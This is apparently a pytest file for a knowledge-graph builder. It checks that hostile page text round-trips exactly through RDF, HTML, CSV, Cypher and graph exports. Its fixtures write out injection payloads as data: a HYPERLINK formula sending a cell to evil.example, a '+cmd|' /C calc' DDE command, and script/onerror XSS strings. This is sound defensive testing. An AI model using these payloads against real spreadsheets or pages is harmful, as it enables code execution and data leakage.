"""Text from the input stays text in every output: a hostile page, built end to end.

The page (invented) has headlines and a body made of what breaks writers: markup and a script
end tag for HTML, quotes, backslashes, triple quotes and a final quote for Turtle long strings,
formula openers (``= + - @``) for spreadsheets, ``${x}`` and backquotes for Cypher; its file name
holds quotes, ``<``, ``&``, ``%`` and ``#``. One build writes every format; each is read back
by an independent reader (rdflib, pyoxigraph, csv, ElementTree, networkx, json, a Cypher literal
decoder written here) and must give the exact input strings. IRIs are checked for any name.
"""

from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import networkx as nx
import pyoxigraph as ox
import pytest
from rdflib import Dataset, Graph, Literal, URIRef

from uniongraph.cli import main
from uniongraph.export.cypher import split_statements
from uniongraph.ids import entity_id, entity_iri
from uniongraph.query import load_graph, run_query
from uniongraph.readwrite.html import html_data

UG = "https://w3id.org/uniongraph/ontology#"
TITLE_1 = ('=HYPERLINK("http://evil.example/?"&A1,"点击") <img src=x onerror=alert(1)> "引号" \\反斜杠 '
           "</script><!-- '单' `反` ${x} {{y}} \"\"\"三\"\"\"")
TITLE_2 = "@SUM(A1) -2+3 +cmd|' /C calc'!A0 鹿城区总工会慰问职工\\"
BODY_1 = ('本报讯（记者 陈立新）鹿城区总工会在社区看望职工，\\"转义\\" \\n 不是换行\t制表，'
          '</script><script>alert(1)</script>、<![CDATA[x]]>、&amp;、温州电力有限公司参加"""')
BODY_2 = "本报讯 =1+1，瓯海区总工会组织志愿服务队走进社区。\\u0041 不是转义。'"
FILE_NAME = "page \"q\" <b>&amp; =cmd's {x}%20#.md"
HOSTILE_MARKUP = ("<img src=x", "</script><!--", "<script>alert", "<![CDATA[")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    folder = tmp_path_factory.mktemp("hostile")
    page = folder / "in" / FILE_NAME
    page.parent.mkdir()
    page.write_text(f"# {TITLE_1}\n\n{BODY_1}\n\n# {TITLE_2}\n\n{BODY_2}\n", encoding="utf-8")
    out = folder / "out"
    code = main(["build", str(page), "--out", str(out), "--quiet", "--no-validate", "--export",
                 "ntriples,nquads,trig,jsonld,graphml,gexf,nodelink,neo4j,cypher"])
    assert code == 0
    data = json.loads((out / "graph.json").read_text(encoding="utf-8"))
    return {"out": out, "source": str(page), "json": data}


def strings(value: Any) -> Iterator[str]:
    """Every string anywhere in a JSON-like value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from strings(v)


def test_json_keeps_the_exact_input(built: dict[str, Any]) -> None:
    arts = built["json"]["articles"]
    assert [a["title"] for a in arts] == [TITLE_1, TITLE_2]
    assert [a["text"] for a in arts] == [f"{TITLE_1}\n{BODY_1}", f"{TITLE_2}\n{BODY_2}"]
    assert {a["source"] for a in arts} == {built["source"]}


# ---------------------------------------------------------------- RDF


def _literals(triples: Iterator[tuple[Any, Any, Any]], pred: str) -> set[str]:
    return {str(o) for _, p, o in triples if str(p) == UG + pred}


RDF_FILES = {"graph.ttl": ("turtle", ox.RdfFormat.TURTLE), "graph.nt": ("nt", ox.RdfFormat.N_TRIPLES),
             "graph.nq": ("nquads", ox.RdfFormat.N_QUADS), "graph.trig": ("trig", ox.RdfFormat.TRIG),
             "graph.jsonld": ("json-ld", ox.RdfFormat.JSON_LD)}


@pytest.mark.parametrize("name", sorted(RDF_FILES))
def test_rdf_round_trips_through_rdflib_and_oxigraph(built: dict[str, Any], name: str) -> None:
    path = built["out"] / name
    rdflib_fmt, ox_fmt = RDF_FILES[name]
    ds = Dataset(default_union=True)
    ds.parse(path, format=rdflib_fmt)
    ox_triples = [(q.subject, q.predicate, q.object) for q in ox.parse(path=str(path), format=ox_fmt)]
    for triples in (list(ds.triples((None, None, None))),
                    [(s.value, p.value, o.value) for s, p, o in ox_triples]):
        assert _literals(iter(triples), "headline") == {TITLE_1, TITLE_2}
        assert _literals(iter(triples), "text") == {f"{TITLE_1}\n{BODY_1}", f"{TITLE_2}\n{BODY_2}"}
        assert _literals(iter(triples), "sourceFile") == {built["source"]}


def test_sparql_finds_a_hostile_headline_by_its_literal(built: dict[str, Any]) -> None:
    # A researcher looking up a title writes it as a SPARQL string: rdflib's n3() escapes it.
    for title in (TITLE_1, TITLE_2):
        q = f"SELECT ?a WHERE {{ ?a ug:headline {Literal(title, lang='zh').n3()} }}"
        assert len(run_query(load_graph(built["out"] / "graph.ttl"), q).rows) == 1
        store = ox.Store()
        store.load(path=str(built["out"] / "graph.nt"), format=ox.RdfFormat.N_TRIPLES)
        assert len(list(store.query(f"PREFIX ug: <{UG}> " + q))) == 1


def test_endpoint_result_formats_round_trip_hostile_literals() -> None:
    from uniongraph.serve.formats import render

    values = [TITLE_1, TITLE_2, BODY_1, "行一\n行二\r\n", "\t", ""]
    rows = [[("literal", v, "zh", None)] for v in values]
    answer = ("select", ["t"], rows, False)
    as_json = [b["t"]["value"] for b in json.loads(render(answer, "json"))["results"]["bindings"]]
    root = ET.fromstring(render(answer, "xml"))
    as_xml = [lit.text or "" for lit in root.iter("{http://www.w3.org/2005/sparql-results#}literal")]
    as_csv = [r[0] for r in list(csv.reader(render(answer, "csv").splitlines(keepends=True)))[1:]]
    from rdflib.util import from_n3

    as_tsv = [str(from_n3(line)) for line in render(answer, "tsv").split("\n")[1:] if line]
    assert as_json == as_xml == as_csv == as_tsv == values


# ---------------------------------------------------------------- HTML


def test_html_shows_hostile_text_only_as_escaped_data(built: dict[str, Any]) -> None:
    page = (built["out"] / "graph.html").read_text(encoding="utf-8")
    for markup in HOSTILE_MARKUP:
        assert markup not in page, markup
    data = html_data(page)
    found = set(strings(data))
    assert any(TITLE_1 in s for s in found)
    assert any("</script><script>alert(1)</script>" in s for s in found)
    # the only script tags are those of a page with no data: none was opened by the input
    from uniongraph.model import KnowledgeGraph
    from uniongraph.readwrite.html import generate_html

    empty = generate_html(KnowledgeGraph())
    assert (page.count("<script"), page.count("</script")) == (empty.count("<script"), empty.count("</script"))


# ---------------------------------------------------------------- spreadsheets


_FORMULA = tuple("=+-@\t\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_neo4j_csv_cells_never_start_a_formula(built: dict[str, Any]) -> None:
    files = sorted((built["out"] / "neo4j").glob("*.csv"))
    assert files
    seen = []
    for path in files:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(_FORMULA) or _is_number(cell), (path.name, cell)
                    seen.append(cell)
    assert "'" + TITLE_1 in seen and "'" + TITLE_2 in seen  # guarded, reversibly


def test_neo4j_csv_reads_back_exact(built: dict[str, Any]) -> None:
    from uniongraph.export.neo4j_csv import read_neo4j_csv

    data = read_neo4j_csv(built["out"] / "neo4j")
    found = set(strings(data))
    assert {TITLE_1, TITLE_2, f"{TITLE_1}\n{BODY_1}"} <= found


def test_query_csv_guards_formula_cells(built: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", str(built["out"]), "SELECT ?t WHERE { ?a ug:headline ?t } ORDER BY ?t",
                 "--format", "csv"]) == 0
    rows = list(csv.reader(capsys.readouterr().out.splitlines(keepends=True)))
    assert rows[0] == ["t"]
    assert sorted(r[0] for r in rows[1:]) == sorted(["'" + TITLE_1, "'" + TITLE_2])


# ---------------------------------------------------------------- Cypher


_CYPHER_ESC = {"\\": "\\", "'": "'", '"': '"', "n": "\n", "r": "\r", "t": "\t", "b": "\b", "f": "\f"}
_CYPHER_STRING = re.compile(r"""'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)\"""", re.S)


def _decode_cypher(body: str) -> str:
    """A Cypher string literal's value (openCypher escapes), decoded independently of the writer."""
    out, i = [], 0
    while i < len(body):
        ch = body[i]
        if ch != "\\":
            out.append(ch)
            i += 1
            continue
        nxt = body[i + 1]
        if nxt == "u":
            out.append(chr(int(body[i + 2 : i + 6], 16)))
            i += 6
        else:
            out.append(_CYPHER_ESC[nxt])
            i += 2
    return "".join(out)


def test_cypher_script_keeps_strings_inside_their_literals(built: dict[str, Any]) -> None:
    script = (built["out"] / "graph.cypher").read_text(encoding="utf-8")
    values = set()
    for stmt in split_statements(script):
        head = stmt.lstrip().split(None, 1)[0].upper()
        assert head in {"CREATE", "UNWIND", "MERGE", "MATCH", "CALL", "WITH"}, stmt[:80]
        # with every string literal removed, nothing of the input is left in the statement
        bare = _CYPHER_STRING.sub("''", stmt)
        for markup in ("HYPERLINK", "alert", "calc", "${x}"):
            assert markup not in bare, stmt[:120]
        values |= {_decode_cypher(a or b) for a, b in _CYPHER_STRING.findall(stmt)}
    assert {TITLE_1, TITLE_2, f"{TITLE_1}\n{BODY_1}", built["source"]} <= values


# ---------------------------------------------------------------- XML and JSON graph files


@pytest.mark.parametrize("name,read", [("graph.graphml", nx.read_graphml), ("graph.gexf", nx.read_gexf)])
def test_xml_graph_files_are_well_formed_and_exact(built: dict[str, Any], name: str, read: Any) -> None:
    path = built["out"] / name
    ET.parse(path)  # well-formed XML, whatever the titles hold
    g = read(path)
    found = {v for _, d in g.nodes(data=True) for v in d.values() if isinstance(v, str)}
    assert {TITLE_1, TITLE_2} <= found


def test_nodelink_json_is_exact(built: dict[str, Any]) -> None:
    data = json.loads((built["out"] / "graph.nodelink.json").read_text(encoding="utf-8"))
    assert {TITLE_1, TITLE_2} <= set(strings(data))


# ---------------------------------------------------------------- IRIs for any name

ODD_NAMES = [
    "北京市总工会", "a b", "<>\"{}|^`\\", "50%", "#frag", "?q=1&x", "a/b/../c", "..", ".", "", " ",
    "\u200b", "李🎉明", "e\u0301", "ﬁ", "Ａｂｃ", "\u202eevil", "\ud7ff\ue000", "名\n字", "x" * 500,
    "http://example.org/", "ug:Person", "_:b0", "\ufffd",
]


@pytest.mark.parametrize("name", ODD_NAMES)
@pytest.mark.parametrize("type_", ["Federation", "Person", "Place", "Event", "Unknown"])
def test_entity_iris_are_valid_for_any_name(name: str, type_: str) -> None:
    iri = entity_iri(entity_id(type_, name))
    ox.NamedNode(iri)  # raises on an invalid IRI
    assert re.fullmatch(r"https://w3id\.org/uniongraph/id/[a-z]+/[A-Za-z0-9%._~-]*", iri), iri
    g = Graph()
    g.add((URIRef(iri), URIRef(UG + "label"), Literal(name)))
    again = Graph().parse(data=g.serialize(format="nt"), format="nt")
    assert set(again) == set(g)
    assert list(ox.parse(g.serialize(format="nt").encode("utf-8"), format=ox.RdfFormat.N_TRIPLES))
